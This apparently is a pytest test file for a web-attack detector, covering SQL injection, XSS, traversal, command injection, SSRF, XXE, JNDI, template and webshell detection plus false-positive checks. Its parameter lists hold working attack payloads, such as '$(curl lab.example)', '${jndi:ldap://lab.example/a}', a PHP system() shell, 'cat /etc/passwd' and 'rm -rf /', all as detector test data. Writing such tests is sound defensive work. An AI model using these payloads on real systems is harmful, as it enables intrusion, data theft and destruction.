"""Web attacks: each family is recognised through its encodings; ordinary values are left alone."""

import time
from urllib.parse import quote

import pytest

from schemas import Alert, Document, Field, LogWindow
from secassist.detectors._web.request import decode, looks_like_request, squeeze, values_of_request
from secassist.detectors.web_attack import PLUGIN


def request(target: str, body: str = "", agent: str = "Mozilla/5.0 (X11; Linux x86_64)") -> Alert:
    raw = (
        f"{'POST' if body else 'GET'} {target} HTTP/1.1\nHost: shop.example\nUser-Agent: {agent}\nAccept: */*\n\n{body}"
    )
    return Alert(source="json", fields=(Field(path="kind", value="http_request"), Field(path="raw", value=raw)))


def parameter(value: str) -> Alert:
    return Alert(source="json", fields=(Field(path="payload", value=value),))


def rules(subject) -> set[str]:
    return {signal.rule for signal in PLUGIN.detect(subject).signals}


@pytest.mark.parametrize(
    ("value", "rule"),
    [
        ("1' or '1'='1", "web:sqli"),
        ("1 UNION/**/SELECT user,password FROM users--", "web:sqli"),
        ("%2527%2520union%2520select%25201%252C2--", "web:sqli"),
        ("1;waitfor delay '0:0:5'--", "web:sqli"),
        ("<script>alert(1)</script>", "web:xss"),
        ("%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "web:xss"),
        ("javascript:alert(document.cookie)", "web:xss"),
        ("../../../../etc/passwd", "web:traversal"),
        ("..%c0%af..%c0%afetc/passwd", "web:traversal"),
        ("php://filter/convert.base64-encode/resource=index", "web:traversal"),
        ("127.0.0.1; cat /etc/passwd", "web:command"),
        ("$(curl lab.example)", "web:command"),
        ("http://169.254.169.254/latest/meta-data/", "web:ssrf"),
        ("<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>", "web:xxe"),
        ("${jndi:ldap://lab.example/a}", "web:jndi"),
        ("${${lower:j}ndi:ldap://lab.example/a}", "web:jndi"),
        ("{{7*7}}", "web:template"),
        ("<?php system($_GET['c']); ?>", "web:php"),
        ("(new java.lang.ProcessBuilder('id')).start()", "web:java"),
        ("require('child_process').exec('id')", "web:script"),
        ("a\r\nSet-Cookie: admin=1", "web:protocol"),
        ("x' or email notnull--", "web:sqli"),
        ("x'-email--", "web:sqli"),
        ("OR '{\"a\":2}'::jsonb @> '{\"a\":2}'", "web:sqli"),
        ("1 and starts_with(password,'a')", "web:sqli"),
        ("9999 or true#", "web:sqli"),
        ("http://①②⑦.⓪.⓪.①/", "web:ssrf"),
        ("http://0x7f000001/", "web:ssrf"),
        ("http://0251.0376.0251.0376/", "web:ssrf"),
        ("https://[::ffff:a9fe:a9fe]/", "web:ssrf"),
        ("/home/web/.ssh/id_rsa", "web:traversal"),
        ("c:/inetpub/logs/u_ex1.log", "web:traversal"),
        ("time curl lab.example", "web:command"),
        ("127.0.0.1;echo test", "web:command"),
        ("c$$at /et$$c/hosts", "web:command"),
        ("for /f %x in ('whoami') do echo %x", "web:command"),
        ("allow_url_include = 1", "web:php"),
        ("phpinfo()", "web:php"),
        ("invokertransformer", "web:java"),
        ("KztAAUxhYi5Ob25l", "web:java"),
        ("$1:__proto__:then", "web:script"),
        ("process['env']", "web:script"),
        ("(document)['cookie']", "web:xss"),
        ("a)(uidNumber>=0", "web:protocol"),
    ],
)
def test_each_family_is_recognised(value: str, rule: str):
    found = [s for s in PLUGIN.detect(parameter(value)).signals if s.rule == rule]
    assert found
    assert found[0].techniques
    assert found[0].decoded == decode(value)[:600]


@pytest.mark.parametrize(
    "value",
    [
        "O'Brien",
        "It's 5 o'clock, isn't it?",
        "Please select a colour from the list and update it where needed.",
        "2024-05-01 12:30",
        "rock & roll",
        "c/ david 169 6-h",
        "mango_rizzo1@premiostv.ky",
        "price < 100 and size > 4",
        "a <- b",
        "time warner",
        "the union of workers selected a new chair",
        "/images/logo.png",
        "C++ or C#?",
        "1,000.50",
        "who is there",
        'he said "no" and left',
        'Die "Union von Europa"',
        "is this your parents' or yours?",
        "time for tea",
        "a list of items\nlist of names\ndata not found.",
        "https://shop.example/path?x=1",
        "https://medium.example/@someone/post",
        "while (we wait) is a song",
        "O'Neil; Smith; Jones",
        "US$5 and up",
        "the $HOME of jazz (1990)",
        "wait... etc.",
        "select 5 of 7 [optional]",
        "x = y; z",
    ],
)
def test_ordinary_values_are_left_alone(value: str):
    assert rules(parameter(value)) == set()
    assert rules(request("/search?q=" + quote(value, safe="/:"))) == set()


def test_scanners_probes_and_web_shells():
    assert "web:scanner" in rules(request("/", agent="sqlmap/1.5 (https://sqlmap.example)"))
    assert "web:sensitive-file" in rules(request("/.git/config"))
    assert "web:webshell" in rules(request("/uploads/c99.php?x=1"))
    assert rules(request("/", agent="curl/8.4.0")) == set()


def test_body_header_and_form_parts_are_looked_at_with_their_lines():
    (signal,) = [s for s in PLUGIN.detect(request("/", "name=a&id=1' or '1'='1")).signals if s.rule == "web:sqli"]
    assert signal.lines == (7,)
    form = '--b\nContent-Disposition: form-data; name="f"; filename="a.txt"\nContent-Type: text/plain\n\n{}\n--b--'
    assert rules(request("/", form.format("hello"))) == set()
    assert "web:xss" in rules(request("/", form.format("<script>alert(1)</script>")))
    assert "web:jndi" in rules(request("/", agent="${jndi:ldap://lab.example/a}"))


def test_access_log_lines_are_looked_at():
    lines = [
        '192.0.2.7 - - [01/May/2024:10:00:00 +0000] "GET /index.html HTTP/1.1" 200 10 "-" "Mozilla/5.0 (X11)"',
        '192.0.2.7 - - [01/May/2024:10:00:01 +0000] "GET /a?f=../../../etc/passwd HTTP/1.1" 404 10 "-" "Nikto/2.1"',
    ]
    found = {s.rule: s.lines for s in PLUGIN.detect(LogWindow(source="log", body="\n".join(lines))).signals}
    assert found == {"web:traversal": (2,), "web:scanner": (2,)}


def test_prose_and_code_outside_requests_are_not_its_business():
    text = "SELECT * FROM users WHERE name = 'x' OR '1'='1';\n<script>alert(1)</script>\nrm -rf / ; cat /etc/passwd"
    assert rules(Document(source="text", body=text)) == set()
    assert rules(Alert(source="json", fields=(Field(path="command", value="cat /etc/passwd; id"),))) == set()


def test_request_shape():
    assert looks_like_request("POST /a HTTP/1.1\nHost: x")
    assert not looks_like_request("GET out of here")
    values = [(v.where, v.text) for v in values_of_request('GET /p?a=1&b=2 HTTP/1.1\nCookie: c=3\n\n{"k":"v"}')]
    assert values[:4] == [("path", "/p"), ("query", "1"), ("query", "2"), ("header:cookie", "c=3")]
    assert ("body", "v") in values


def test_decoding_is_bounded():
    nested = "%2527"
    for _ in range(6):
        nested = nested.replace("%", "%25")
    assert "%" in decode(nested)
    assert decode("%27") == "'"
    assert squeeze("union/*x*/select") == "union select"


@pytest.mark.parametrize(
    ("target", "rule"),
    [
        ("/.aider/chat.md", "web:sensitive-file"),
        ("/wp-content/debug.log", "web:sensitive-file"),
        ("/npm/..;/usp/search.do", "web:probe"),
        ("/files/../server.xml", "web:climbs"),
        ("/docs/../../about", "web:climbs"),
        ("/docs/%2e%2e/about", "web:climbs"),
        ("/a/b/../../etc/passwd", "web:climbs"),
        ("/a/b/../../WEB-INF/web", "web:climbs"),
        ("/mgmt/tm/util/bash", "web:probe"),
        ("/wp-content/uploads/2024/a.php", "web:probe"),
        ("/a%0d%0aX-Lab:%20b", "web:protocol"),
        ("/graphql?query={__schema{types{name}}}", "web:graphql"),
    ],
)
def test_doors_that_no_visitor_needs(target: str, rule: str):
    assert rule in rules(request(target))


@pytest.mark.parametrize(
    "target",
    [
        "/.well-known/acme-challenge/abc",
        "/static/app.3f9.js",
        "/wp-content/uploads/2024/a.jpg",
        "/graphql?query={shop{name}}",
        "/search?q=line+one%0Aline+two",
        "/a.b/c..d/e",
    ],
)
def test_doors_of_honest_visitors(target: str):
    assert rules(request(target)) == set()


@pytest.mark.parametrize("name", ["photo.php", "shell.jsp  ", "a.phtml", "sess_abcdefghij0123456789", "wp-config.bak"])
def test_a_script_is_seen_in_the_file_name_of_a_form(name: str):
    assert "web:upload" in rules(form(name))


@pytest.mark.parametrize("name", ["photo.png", "php-notes.txt", "session.log", "war and peace.pdf"])
def test_honest_uploads(name: str):
    assert rules(form(name)) == set()


def form(name: str) -> Alert:
    raw = (
        "POST /upload HTTP/1.1\nHost: shop.example\nUser-Agent: Mozilla/5.0\nContent-Type: multipart/form-data; boundary=xx\n\n"
        f'--xx\nContent-Disposition: form-data; name="a"; filename="{name}"\nContent-Type: text/plain\n\nhello\n--xx--'
    )
    return Alert(source="json", fields=(Field(path="raw", value=raw),))


def test_a_dull_header_with_a_climbing_path_is_read():
    raw = "GET / HTTP/1.1\nHost: shop.example\nAccept: ../../../../etc/passwd{{"
    assert "web:traversal" in rules(Alert(source="json", fields=(Field(path="raw", value=raw),)))


def test_a_session_cookie_is_no_session_fixation():
    raw = "GET /admin HTTP/1.1\nHost: shop.example\nCookie: sid=m4qtenjrpr6hw2fd; lang=en"
    assert rules(Alert(source="json", fields=(Field(path="raw", value=raw),))) == set()


def test_plain_xml_is_no_script():
    raw = (
        'POST /api HTTP/1.1\nContent-Type: application/xml\n\n<?xml version="1.0"?><xml><order id="7">tea</order></xml>'
    )
    assert rules(Alert(source="json", fields=(Field(path="raw", value=raw),))) == set()


def test_hostile_values_are_read_in_linear_time():
    for text in (
        "'" * 16_000,
        "a' or " * 3_000,
        "case when " * 1_600,
        "x=a;" * 4_000,
        "\n" * 16_000,
        '["' * 8_000,
        "." * 16_000,
    ):
        start = time.process_time()
        rules(parameter(text))
        assert time.process_time() - start < 1.0, text[:10]


@pytest.mark.parametrize(
    "target", ["/docs/../about", "/static/css/../img/logo.png", "/a/b/../c/./d.html?lang=en", "/a/b/../../login"]
)
def test_dots_within_the_site_are_no_attack(target: str):
    assert rules(request(target)) == set()
